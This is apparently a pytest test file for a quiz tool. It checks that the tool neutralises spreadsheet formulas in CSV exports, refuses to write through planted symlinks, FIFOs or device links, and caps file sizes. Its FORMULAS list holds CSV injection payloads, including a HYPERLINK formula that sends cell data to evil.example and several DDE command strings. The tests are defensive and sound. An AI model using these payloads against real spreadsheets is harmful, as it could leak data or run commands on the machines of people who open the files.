"""Files are data too: spreadsheets never see a formula, writes never follow a planted link or
leave half a file, and only regular files of a sane size are read, whatever a folder holds."""

from __future__ import annotations

import csv
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from ui_helpers import THREE, build, screen_text

import quiz.files
from quiz.bank.cache import BankCache
from quiz.bank.catalog import Catalog
from quiz.cli import main
from quiz.files import FileExists, write_new
from quiz.progress.report import build_report
from quiz.store import Store, bank_key
from quiz.text.safe import csv_guard, csv_unguard

ROOT = Path(__file__).resolve().parent.parent

#: Cells a spreadsheet would run: a formula, DDE, an at-sign function, a leading tab or CR.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
)


# -- spreadsheets ------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", [*FORMULAS, "plain", "a=b", "", "'quote", "= spaced", "-"])
def test_a_guarded_cell_is_never_a_formula_and_reads_back(cell: str) -> None:
    guarded = csv_guard(cell)
    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert csv_unguard(guarded) == cell


def played(db: Path, bank: Path, texts: tuple[str, ...]) -> None:
    """A session whose question, choices, title and profile are the given texts."""
    with Store.open(db) as store:
        for number, text in enumerate(texts):
            session = store.start_session(
                bank=bank_key(bank), title=text, planned=1, profile=f"p{number}"
            )
            store.record_answer(
                session,
                question_id=f"q{number}",
                question=text,
                choices=[text, "right"],
                picked=0,
                correct=False,
                ms=100,
            )
    with sqlite3.connect(db) as conn:  # an old database could hold such a profile
        conn.execute("UPDATE sessions SET profile = ? WHERE id = 1", ("=1+2",))
    conn.close()


def test_results_export_writes_no_formula_and_the_report_reads_the_text(tmp_path) -> None:
    db = tmp_path / "s.db"
    played(db, tmp_path / "b.yaml", FORMULAS)
    out = tmp_path / "ali.csv"
    assert main(["--db", str(db), "results", "export", "-o", str(out)]) == 0
    with out.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    cells = [cell for row in rows[1:] for cell in row]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "'=1+2" in cells
    report = build_report([out], min_answers=1)
    questions = {q.question for bank in report.banks for q in bank.questions}
    assert questions == set(FORMULAS)
    assert {s.name for s in report.students} == {"=1+2", *(f"p{n}" for n in range(1, 8))}
    wrong = {q.most_picked_wrong.text for b in report.banks for q in b.questions}
    assert wrong == set(FORMULAS)


# -- writing -----------------------------------------------------------------------------------


def test_no_write_follows_a_link_planted_in_the_target_folder(tmp_path) -> None:
    db = tmp_path / "s.db"
    played(db, tmp_path / "b.yaml", ("q",))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    # Links at every name a writer could guess: the old .NAME.part and the like.
    for name in ("ali.csv", "report.html", "bank.yaml", "bank.gift"):
        for guess in (f".{name}.part", f".{name}.tmp", f"{name}.part", f"{name}~"):
            os.symlink(victim, out / guess)
    planted = set(os.listdir(out))
    assert main(["--db", str(db), "results", "export", "-o", str(out / "ali.csv")]) == 0
    assert main(["report", str(out / "ali.csv"), "--html", str(out / "report.html")]) == 0
    gift = tmp_path / "in.gift"
    gift.write_text("Capital of France? {=Paris ~Lyon}\n", encoding="utf-8")
    assert main(["import", str(gift), "-o", str(out / "bank.yaml")]) == 0
    gift_out = str(out / "bank.gift")
    assert main(["export", str(out / "bank.yaml"), "--to", "gift", "-o", gift_out]) == 0
    assert main(["new", str(out / "new.yaml")]) == 0
    assert victim.read_text(encoding="utf-8") == "keep me"
    written = set(os.listdir(out)) - planted
    assert written == {
        "ali.csv",
        "report.html",
        "bank.yaml",
        "bank.gift",
        "new.yaml",
        "bank.schema.json",
    }
    assert all((out / name).is_file() and not (out / name).is_symlink() for name in written)


def test_force_replaces_a_link_itself_never_the_file_it_points_at(tmp_path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    link = tmp_path / "out.txt"
    os.symlink(victim, link)
    with pytest.raises(FileExists):
        write_new(link, "new")
    write_new(link, "new", force=True)
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not link.is_symlink() and link.read_text(encoding="utf-8") == "new"


def system_streams(folder: Path) -> dict[str, str]:
    """Names in `folder` that stand for something other than a file: a FIFO, and links to a
    device and to the system's streams (directly, through /proc, and through another link).
    Only links in the test's own folder: were a guard to fail, only they would be replaced."""
    os.mkfifo(folder / "pipe.csv")
    links = {
        "null.txt": "/dev/null",
        "stdout.txt": "/dev/stdout",
        "fd1.txt": "/proc/self/fd/1",
        "chain.txt": str(folder / "stdout.txt"),
    }
    for name, target in links.items():
        os.symlink(target, folder / name)
    return {"pipe.csv": "FIFO (named pipe), not a regular file", **dict.fromkeys(links, "")}


def kinds(folder: Path) -> dict[str, tuple[int, str]]:
    return {
        name: (
            os.lstat(folder / name).st_mode,
            os.readlink(folder / name) if (folder / name).is_symlink() else "",
        )
        for name in sorted(os.listdir(folder))
    }


@pytest.mark.skipif(not os.path.exists("/dev/stdout"), reason="needs /dev/stdout")
def test_no_write_replaces_a_fifo_a_device_or_a_link_to_the_systems_streams(
    tmp_path, capsys
) -> None:
    db = tmp_path / "s.db"
    played(db, tmp_path / "b.yaml", ("q",))
    gift = tmp_path / "in.gift"
    gift.write_text("Capital of France? {=Paris ~Lyon}\n", encoding="utf-8")
    bank = tmp_path / "three.yaml"
    bank.write_text(THREE, encoding="utf-8")
    export = tmp_path / "ali.csv"
    assert main(["--db", str(db), "results", "export", "-o", str(export)]) == 0
    capsys.readouterr()
    out = tmp_path / "out"
    out.mkdir()
    names = system_streams(out)
    before = kinds(out)
    for name, says in names.items():
        with pytest.raises(quiz.files.FileProblem, match=re.escape(says or "not a")):
            write_new(out / name, "x", force=True)
        target = str(out / name)
        for args in (
            ["--db", str(db), "results", "export", "-o", target, "--force"],
            ["import", str(gift), "-o", target, "--force"],
            ["export", str(bank), "--to", "gift", "-o", target, "--force"],
            ["report", str(export), "--html", target, "--force"],
        ):
            assert main(args) == 1, args
            captured = capsys.readouterr()
            assert captured.err.count("\n") == 1, (args, captured.err)
            assert f"{name}: is a" in captured.err and "name a file to write" in captured.err
    # Every name is what it was: the FIFO a FIFO, each link the same link; nothing added.
    assert kinds(out) == before
    with pytest.raises(quiz.files.FileProblem) as refused:
        write_new(out / "chain.txt", "x")
    assert "a stream of the system, not a file" in str(refused.value)


def test_report_html_refuses_an_existing_file_like_every_o(tmp_path, capsys) -> None:
    db = tmp_path / "s.db"
    played(db, tmp_path / "b.yaml", ("q",))
    export = tmp_path / "ali.csv"
    assert main(["--db", str(db), "results", "export", "-o", str(export)]) == 0
    before = db.read_bytes()
    capsys.readouterr()
    assert main(["report", str(export), "--html", str(db)]) == 1
    err = capsys.readouterr().err
    assert err == f"quiz: error: {db} already exists; choose another name or add --force\n"
    assert db.read_bytes() == before
    assert main(["report", str(export), "--html", str(export), "--force"]) == 1
    assert "one of the exports being read" in capsys.readouterr().err
    page = tmp_path / "page.html"
    page.write_text("old", encoding="utf-8")
    assert main(["report", str(export), "--html", str(page), "--force"]) == 0
    assert page.read_text(encoding="utf-8").startswith("<!doctype html>")


def test_a_write_that_fails_midway_leaves_nothing_behind(tmp_path) -> None:
    def fail(stream: object) -> None:
        raise OSError(28, "No space left on device")

    with pytest.raises(quiz.files.FileProblem, match="No space left on device"):
        write_new(tmp_path / "out.csv", fail)
    assert os.listdir(tmp_path) == []


# -- the cache is never something else ---------------------------------------------------------


def test_quiz_cache_pointing_at_another_file_leaves_it_alone(tmp_path, capsys, monkeypatch):
    banks = tmp_path / "banks"
    banks.mkdir()
    (banks / "three.yaml").write_text(THREE, encoding="utf-8")
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n" * 50, encoding="utf-8")
    db = tmp_path / "scores.db"
    played(db, banks / "three.yaml", ("q",))
    other = tmp_path / "other.sqlite3"
    with sqlite3.connect(other) as conn:
        conn.execute("CREATE TABLE files (path TEXT)")
        conn.execute("CREATE TABLE mine (x)")
    conn.close()
    for target in (notes, db, other):
        before = target.read_bytes()
        monkeypatch.setenv("QUIZ_CACHE", str(target))
        assert main(["--db", str(db), "list", "--bank", str(banks)]) == 0
        captured = capsys.readouterr()
        assert "Three capitals" in captured.out
        (line,) = captured.err.splitlines()
        assert line.startswith(f"quiz: warning: the bank cache {target} is ")
        assert "it was left alone" in line
        assert target.read_bytes() == before
        assert not Path(f"{target}-wal").exists()
    with Store.open(db) as store:
        assert len(store.sessions()) == 1


# -- reading -----------------------------------------------------------------------------------


def run_quiz(*args: str, env: dict[str, str], timeout: float = 60) -> subprocess.CompletedProcess:
    """The real program in a process of its own: one that blocked would be killed, and fail."""
    return subprocess.run(
        [sys.executable, "-m", "quiz", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=timeout,
        stdin=subprocess.DEVNULL,
        cwd=ROOT,
    )


def hostile_bank_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "banks"
    (folder / "sub").mkdir(parents=True)
    (folder / "good.yaml").write_text(THREE, encoding="utf-8")
    os.symlink("loop.yaml", folder / "loop.yaml")  # a link to itself
    os.symlink("ping.yaml", folder / "pong.yaml")  # two links to each other
    os.symlink("pong.yaml", folder / "ping.yaml")
    os.symlink("..", folder / "sub" / "up")  # a folder loop
    os.mkfifo(folder / "pipe.yaml")
    os.symlink(folder / "pipe.yaml", folder / "sub" / "to-pipe.yaml")
    os.symlink("/dev/zero", folder / "zero.yaml")
    os.symlink("/dev/null", folder / "null.yaml")
    os.symlink("/dev/urandom", folder / "sub" / "random.yaml")
    os.symlink(tmp_path / "nowhere", folder / "dangling.yaml")
    (folder / os.fsdecode(b"caf\xe9.yaml")).write_text(THREE, encoding="utf-8")
    return folder


def test_a_folder_of_links_pipes_and_devices_is_listed_checked_and_never_blocks(tmp_path):
    folder = hostile_bank_folder(tmp_path)
    env = {**os.environ, "QUIZ_CACHE": str(tmp_path / "cache"), "QUIZ_DB": str(tmp_path / "s")}
    listing = run_quiz("list", "--bank", str(folder), env=env)
    assert listing.returncode == 0, listing.stderr
    assert listing.stderr == ""
    lines = listing.stdout.splitlines()
    errors = {line.split("\t")[0].rsplit("/", 1)[-1]: line for line in lines if "error" in line}
    assert set(errors) == {
        "loop.yaml",
        "ping.yaml",
        "pong.yaml",
        "pipe.yaml",
        "zero.yaml",
        "null.yaml",
        "random.yaml",
        "dangling.yaml",
    }
    assert "it is a FIFO (named pipe), not a regular file" in errors["pipe.yaml"]
    assert "it is a character device, not a regular file" in errors["zero.yaml"]
    assert "Too many levels of symbolic links" in errors["loop.yaml"]
    assert "caf\\xe9.yaml\tThree capitals" in listing.stdout
    checked = run_quiz("check", str(folder), env=env)
    assert checked.returncode == 1
    assert "Traceback" not in checked.stderr
    # sub/to-pipe.yaml too: checking names every file; the listing shows the pipe once.
    assert checked.stdout.splitlines()[-1] == "11 files, 6 questions, 9 errors, 2 warnings"
    for name in ("pipe.yaml", "zero.yaml", "loop.yaml"):
        one = run_quiz("check", str(folder / name), env=env)
        assert one.returncode == 1 and len(one.stdout.splitlines()) == 2
        played = run_quiz("play", str(folder / name), env=env)
        assert played.returncode in (1, 2) and "Traceback" not in played.stderr


def test_sizes_are_capped_with_a_clear_message(tmp_path, monkeypatch, capsys) -> None:
    folder = tmp_path / "banks"
    folder.mkdir()
    (folder / "three.yaml").write_text(THREE, encoding="utf-8")
    (folder / "big.yaml").write_text(THREE + "#" * 5000, encoding="utf-8")
    monkeypatch.setattr(quiz.files, "BANK_LIMIT", 4096)
    monkeypatch.setattr("quiz.bank.loader.BANK_LIMIT", 4096, raising=False)
    assert main(["check", str(folder)]) == 1
    out = capsys.readouterr().out
    assert "big.yaml:1:1: error: cannot read the file: it is too large (5" in out
    assert "a bank is at most 4096 bytes" in out
    assert out.splitlines()[-1] == "2 files, 3 questions, 1 error, 1 warning"
    export = tmp_path / "ali.csv"
    export.write_text("profile,bank\n" + "x,y\n" * 3000, encoding="utf-8")
    monkeypatch.setattr("quiz.progress.report_read.EXPORT_LIMIT", 1000)
    assert main(["report", str(export)]) == 1
    assert "too large (" in capsys.readouterr().err


def test_a_report_or_an_import_of_a_fifo_does_not_wait(tmp_path) -> None:
    os.mkfifo(tmp_path / "ali.csv")
    os.mkfifo(tmp_path / "q.gift")
    env = {**os.environ, "QUIZ_CACHE": "off", "QUIZ_DB": str(tmp_path / "s")}
    for args in (
        ["report", str(tmp_path / "ali.csv")],
        ["report", str(tmp_path)],
        ["import", str(tmp_path / "q.gift")],
    ):
        result = run_quiz(*args, env=env, timeout=30)
        assert result.returncode == 1
        assert result.stderr.count("\n") == 1
        assert "FIFO (named pipe), not a regular file" in result.stderr


def test_a_file_name_that_is_not_utf_8_plays_and_is_stored_escaped(tmp_path, capsys) -> None:
    folder = tmp_path / "banks"
    folder.mkdir()
    path = folder / os.fsdecode(b"caf\xe9\xff.yaml")
    path.write_text(
        THREE.replace("questions:", "tags: [capitals]\nquestions:", 1), encoding="utf-8"
    )
    db = tmp_path / "s.db"
    catalog = Catalog([folder], BankCache.open(tmp_path / "cache"))
    bank = catalog.load(path).bank
    assert bank is not None
    from quiz.play.practice import Quiz

    with Store.open(db) as store:
        quiz = Quiz(bank, store, seed=1)
        shown = quiz.current
        quiz.answer({0})
        key = store.sessions()[0].bank
    assert key.endswith("caf\\xe9\\xff.yaml")
    key.encode("utf-8")  # strict: nothing SQLite or a terminal cannot hold
    assert shown.question.text
    for args in (
        ["scores"],
        ["scores", "--json"],
        ["stats"],
        ["stats", "--bank", str(path)],
        ["results", "export"],
        ["list", "--bank", str(folder)],
    ):
        assert main(["--db", str(db), *args]) == 0, args
        out = capsys.readouterr().out
        out.encode("utf-8")
    # The statistics find the file again from its escaped name: its tags are read.
    assert main(["--db", str(db), "stats", "--json"]) == 0
    stats = json.loads(capsys.readouterr().out)
    assert stats["totals"]["answers"] == 1
    assert [tag["tag"] for tag in stats["tags"]] == ["capitals"]
    gift = tmp_path / os.fsdecode(b"na\xefve.gift")
    gift.write_text("Capital of France? {=Paris ~Lyon}\n", encoding="utf-8")
    assert main(["import", str(gift), "-o", str(tmp_path / "naive.yaml")]) == 0
    assert "title: Na\\xefve" in (tmp_path / "naive.yaml").read_text(encoding="utf-8")
    assert main(["check", str(tmp_path / "naive.yaml")]) == 0


def test_refused_paths_are_one_line(tmp_path, capsys, monkeypatch) -> None:
    banks = tmp_path / "banks"
    banks.mkdir()
    (banks / "three.yaml").write_text(THREE, encoding="utf-8")
    export = tmp_path / "ali.csv"
    export.write_text("x", encoding="utf-8")
    gift = tmp_path / "q.gift"
    gift.write_text("Q? {=a ~b}\n", encoding="utf-8")
    real_open, real_stat = os.open, os.stat

    # Tests may run as root, whom chmod does not stop: refuse as the system would.
    def refuse_open(name, *args, **kwargs):
        if Path(os.fsdecode(name)).name in ("three.yaml", "ali.csv", "q.gift"):
            raise PermissionError(13, "Permission denied", os.fsdecode(name))
        return real_open(name, *args, **kwargs)

    monkeypatch.setattr(os, "open", refuse_open)
    for args in (
        ["check", str(banks)],
        ["report", str(export)],
        ["import", str(gift)],
        ["export", str(banks / "three.yaml"), "--to", "gift"],
    ):
        code = main(args)
        captured = capsys.readouterr()
        assert code == 1, args
        lines = (captured.out + captured.err).strip().splitlines()
        assert any("Permission denied" in line for line in lines)
        assert len(lines) <= 2
    monkeypatch.setattr(os, "open", real_open)

    def refuse_stat(name, *args, **kwargs):
        if "locked" in os.fsdecode(name):
            raise PermissionError(13, "Permission denied", os.fsdecode(name))
        return real_stat(name, *args, **kwargs)

    # A folder that cannot be searched: every test of a path under it is refused.
    monkeypatch.setattr(os, "stat", refuse_stat)
    monkeypatch.setattr(os, "lstat", refuse_stat)
    for args in (["check", str(tmp_path / "locked" / "a.yaml")], ["list", "--bank", str(banks)]):
        code = main(args)
        captured = capsys.readouterr()
        assert code in (0, 1, 2), args
        assert "Traceback" not in captured.err


def refuse_looking_into(monkeypatch: pytest.MonkeyPatch, *names: str) -> None:
    """Folders of these names refuse to be listed, as a folder without read permission does
    (tests may run as root, whom chmod does not stop); what is inside can still be named."""
    real_scandir = os.scandir

    def scandir(path=".", *args, **kwargs):
        if Path(os.fsdecode(path)).name in names:
            raise PermissionError(13, "Permission denied", os.fsdecode(path))
        return real_scandir(path, *args, **kwargs)

    monkeypatch.setattr(os, "scandir", scandir)


async def test_a_folder_that_cannot_be_listed_is_named_with_why_never_left_out(
    tmp_path, capsys, monkeypatch
) -> None:
    banks = tmp_path / "banks"
    for folder in ("open", "shut", "open/shut-inside", "closed"):
        (banks / folder).mkdir(parents=True)
    for folder in ("open", "shut", "open/shut-inside"):
        (banks / folder / "three.yaml").write_text(THREE, encoding="utf-8")
    refuse_looking_into(monkeypatch, "shut", "shut-inside", "closed")
    db = tmp_path / "scores.db"
    base = ["--db", str(db), "--bank", str(banks)]
    refused = "error: cannot read the folder (Permission denied); its banks are not listed"

    assert main([*base, "list"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split("\t")[0] for line in lines[:-1]] == [
        f"{banks}/closed",
        f"{banks}/open/three.yaml",
        f"{banks}/open/shut-inside",
        f"{banks}/shut",
    ]
    assert sum(refused in line for line in lines) == 3
    assert main([*base, "list", "--json"]) == 0
    listed = {Path(e["path"]).name: e for e in json.loads(capsys.readouterr().out)}
    assert listed["shut-inside"]["subject"] == "open/shut-inside"
    assert refused in listed["shut-inside"]["error"]
    # quiz check counts the one file it could read and names each folder it could not.
    assert main(["check", str(banks)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert out[-1] == "1 file, 3 questions, 3 errors, 1 warning"  # THREE has one
    assert f"{banks}/shut:1:1: {refused}" in out
    # A bank folder that is itself shut is one error too, not an empty list.
    assert main(["--db", str(db), "--bank", str(banks / "shut"), "list"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        f"{banks}/shut\t\t\t{banks}/shut:1:1: {refused}",
        "1 bank",
    ]
    # The home screen lists the folder with its error, and the readable bank can be played.
    app, store = build(banks, db)
    with store:
        async with app.run_test(size=(120, 40)) as pilot:
            await pilot.pause()
            text = screen_text(app)
            assert "cannot read the folder (Permission denied)" in text
            assert "Three capitals" in text


def test_a_path_below_a_folder_that_cannot_be_searched_is_refused_not_missing(
    tmp_path, capsys, monkeypatch
) -> None:
    real_lstat, real_stat = os.lstat, os.stat

    def refuse(real):
        def stat(name, *args, **kwargs):
            if "locked" in os.fsdecode(name):
                raise PermissionError(13, "Permission denied", os.fsdecode(name))
            return real(name, *args, **kwargs)

        return stat

    monkeypatch.setattr(os, "lstat", refuse(real_lstat))
    monkeypatch.setattr(os, "stat", refuse(real_stat))
    bank = tmp_path / "locked" / "three.yaml"
    assert main(["check", str(bank)]) == 1
    assert capsys.readouterr().out.splitlines()[0] == (
        f"{bank}:1:1: error: cannot read the file (Permission denied)"
    )
    assert main(["check", str(tmp_path / "gone.yaml")]) == 2  # really not there: a usage error
    assert "no such file or folder" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
        ('[{"seconds": ' + "9" * 5000 + "}]", "JSON it cannot read"),
        (
            '[{"profile": "a", "bank": "b", "bank_title": "t", "question_id": "q", '
            '"question": "\\ud800", "picked": "x", "result": "right"}]',
            "half a UTF-16 pair",
        ),
        ("\ufeff[{]", "not valid JSON"),
    ],
)
def test_a_hostile_export_is_one_line_and_leaves_no_file(tmp_path, capsys, content, says):
    export = tmp_path / "ali.json"
    export.write_text(content, encoding="utf-8")
    out = tmp_path / "report.html"
    assert main(["report", str(export), "--html", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith(f"quiz: error: {export}")
    assert says in err
    assert not out.exists()
    assert os.listdir(tmp_path) == ["ali.json"]
